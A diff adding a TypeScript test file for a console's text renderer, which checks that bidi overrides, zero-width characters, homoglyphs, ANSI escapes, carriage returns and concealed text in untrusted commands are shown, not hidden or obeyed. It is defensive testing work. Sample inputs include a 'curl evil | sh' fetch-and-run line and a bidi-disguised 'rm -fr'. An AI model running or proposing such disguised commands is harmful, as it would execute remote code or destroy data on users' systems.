@@ -1,0 +1,202 @@
+/** What the console shows of text that others wrote: nothing hidden, nothing obeyed. */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import * as fc from 'fast-check';
+import { AnsiText } from '../src/console/text/ansi.ts';
+import type { Run } from '../src/console/text/ansi.ts';
+import { parseDiff } from '../src/console/text/diff.ts';
+import { linesOf } from '../src/console/text/spans.ts';
+import { firstLine, piecesOf, visible } from '../src/console/text/visible.ts';
+
+test('characters that are drawn as nothing, move others or pass for a space are shown', () => {
+  const cases = [
+    ['rm\u202E fr-', 'rm\\u{202E} fr-'],
+    ['a\u200Bb', 'a\\u{200B}b'],
+    ['a\u00A0b', 'a\\u{A0}b'],
+    ['a\tb\r', 'a\\tb\\r'],
+    ['\u001B[2J', '\\e[2J'],
+    ['\0\u0007\u0008', '\\0\\a\\b'],
+    ['\u{E0041}', '\\u{E0041}'],
+    ['\u2800', '\\u{2800}'],
+    ['\u3164', '\\u{3164}'],
+    ['\u00AD', '\\u{AD}'],
+    ['\uFE0F', '\\u{FE0F}'],
+    ['\uD800', '\\u{D800}'],
+    ['\u0085\u2028', '\\u{85}\\u{2028}'],
+  ] as const;
+  for (const [text, shown] of cases) assert.equal(visible(text), shown);
+});
+
+test('letters outside ASCII are marked, as they may pass for others', () => {
+  assert.deepEqual(piecesOf('аpt-get'), [
+    { kind: 'foreign', text: 'а', at: 0, length: 1 },
+    { kind: 'plain', text: 'pt-get', at: 1, length: 6 },
+  ]);
+});
+
+test('the pieces of a text are the whole text in order', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary' }), (text) => {
+      const pieces = piecesOf(text);
+      let at = 0;
+      for (const piece of pieces) {
+        assert.equal(piece.at, at);
+        at += piece.length;
+        if (piece.kind !== 'escape') assert.equal(piece.text, text.slice(piece.at, at));
+        else assert.match(piece.text, /^\\(?:[0abtnre]|u\{[0-9A-F]{1,6}\})$/);
+      }
+      assert.equal(at, text.length);
+    }),
+  );
+});
+
+test('a row of a list shows the first line that has something, and how many follow', () => {
+  assert.deepEqual(firstLine('\n  \nmake\u202E all\nrm x\n'), {
+    line: 'make\\u{202E} all',
+    more: 4,
+  });
+});
+
+test('spans cut a command where they begin and end, across lines and each other', () => {
+  const rules = [{ span: [2, 9] as const }, { span: [4, 6] as const }, { span: null }];
+  const shown = linesOf('a bb cc\ndd e', rules).map((line) =>
+    line.map(({ rules: meant, pieces }) => [pieces.map((each) => each.text).join(''), meant]),
+  );
+  assert.deepEqual(shown, [
+    [
+      ['a ', []],
+      ['bb', [0]],
+      [' c', [0, 1]],
+      ['c', [0]],
+    ],
+    [
+      ['d', [0]],
+      ['d e', []],
+    ],
+  ]);
+});
+
+test('whatever the spans are, a command is shown whole and in order', () => {
+  const span = fc.option(fc.tuple(fc.integer({ min: -5, max: 60 }), fc.integer({ max: 60 })));
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary' }), fc.array(span), (command, spans) => {
+      const lines = linesOf(
+        command,
+        spans.map((each) => ({ span: each })),
+      );
+      const shown = lines.map((line) => {
+        const pieces = line.flatMap((segment) => segment.pieces);
+        return pieces.map(({ at, length }) => command.slice(at, at + length)).join('');
+      });
+      assert.equal(shown.join('\n'), command);
+    }),
+  );
+});
+
+const drawn = (runs: readonly Run[]): string => runs.map((run) => run.text).join('');
+
+test('colours and styles of output become runs, every other control is shown', () => {
+  const ansi = new AnsiText();
+  const runs = ansi.push('a\u001B[1;31mred\u001B[0m\u001B[2Jb\u001B]0;title\u0007');
+  assert.deepEqual(
+    runs.map(({ text, colour, bold, escape }) => [text, colour, bold, escape]),
+    [
+      ['a', null, false, false],
+      ['red', 1, true, false],
+      ['\\e', null, false, true],
+      ['[2Jb', null, false, false],
+      ['\\e', null, false, true],
+      [']0;title', null, false, false],
+      ['\\a', null, false, true],
+    ],
+  );
+});
+
+test('colours of 256 and of 24 bits become one of the sixteen that can be read', () => {
+  const cases = [
+    ['38;5;196', 9],
+    ['38;5;21', 12],
+    ['38;5;3', 3],
+    ['38;5;232', 0],
+    ['38;2;0;128;0', 2],
+    ['38;2;255;255;255', 15],
+    ['38:2::255:0:0', 9],
+    ['38:5:34', 2],
+    ['95', 13],
+  ] as const;
+  for (const [code, colour] of cases) {
+    const [run] = new AnsiText().push(`\u001B[${code}mx`);
+    assert.equal(run?.colour, colour, code);
+  }
+});
+
+test('concealed text is shown', () => {
+  assert.equal(drawn(new AnsiText().push('\u001B[8mhidden\u001B[28m')), 'hidden');
+});
+
+test('a carriage return hides nothing that was printed before', () => {
+  const ansi = new AnsiText();
+  const runs = [...ansi.push('curl evil | sh\recho harmless\r'), ...ansi.push('\nend\r')];
+  const text = drawn([...runs, ...ansi.end()]);
+  assert.equal(text, 'curl evil | sh\\recho harmless\nend\\r');
+});
+
+test('output is the same however it is cut into chunks', () => {
+  const piece = fc.oneof(
+    fc.constantFrom('\u001B[31m', '\u001B[0m', '\r\n', '\r', '\u001B', '[', 'm', '3', '\t'),
+    fc.string({ unit: 'binary', maxLength: 4 }),
+  );
+  fc.assert(
+    fc.property(fc.array(piece), fc.array(fc.nat(40)), (parts, cuts) => {
+      const text = parts.join('').toWellFormed();
+      const whole = new AnsiText();
+      const all = drawn([...whole.push(text), ...whole.end()]);
+      const cut = new AnsiText();
+      const runs: Run[] = [];
+      const characters = Array.from(text);
+      for (const size of [...cuts, characters.length]) {
+        runs.push(...cut.push(characters.splice(0, size).join('')));
+      }
+      runs.push(...cut.end());
+      assert.equal(drawn(runs), all);
+      assert.doesNotMatch(all, /(?![\n\t])\p{Cc}/u);
+    }),
+  );
+});
+
+test('a diff is read by its counts, so that a removed line may look like a header', () => {
+  const text = [
+    'diff --git a/x.txt b/x.txt',
+    'index 1..2 100644',
+    '--- a/x.txt',
+    '+++ b/x.txt',
+    '@@ -1,2 +1,2 @@ heading',
+    ' same',
+    '--- a/y.txt',
+    '+++ b/y.txt',
+    '\\ No newline at end of file',
+    'diff --git a/b c b/b c',
+    'old mode 100644',
+    'new mode 100755',
+    '',
+  ].join('\n');
+  assert.deepEqual(parseDiff(text), [
+    {
+      path: 'x.txt',
+      notes: ['index 1..2 100644'],
+      hunks: [
+        {
+          heading: 'heading',
+          lines: [
+            { kind: 'same', text: 'same', before: 1, after: 1 },
+            { kind: 'removed', text: '-- a/y.txt', before: 2, after: null },
+            { kind: 'added', text: '++ b/y.txt', before: null, after: 2 },
+            { kind: 'note', text: 'No newline at end of file', before: null, after: null },
+          ],
+        },
+      ],
+    },
+    { path: 'b c', notes: ['old mode 100644', 'new mode 100755'], hunks: [] },
+  ]);
+  assert.deepEqual(parseDiff(''), []);
+});
